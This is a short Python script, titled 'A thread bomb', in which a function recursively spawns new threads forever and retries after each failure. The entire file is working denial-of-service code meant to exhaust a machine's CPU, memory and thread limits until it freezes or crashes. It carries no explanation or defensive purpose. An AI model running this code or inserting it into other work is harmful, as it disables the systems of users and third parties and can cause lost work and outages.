# A thread bomb.
import threading
import time


def multiply():
    while True:
        try:
            threading.Thread(target=multiply).start()
        except RuntimeError:
            time.sleep(0.001)


multiply()
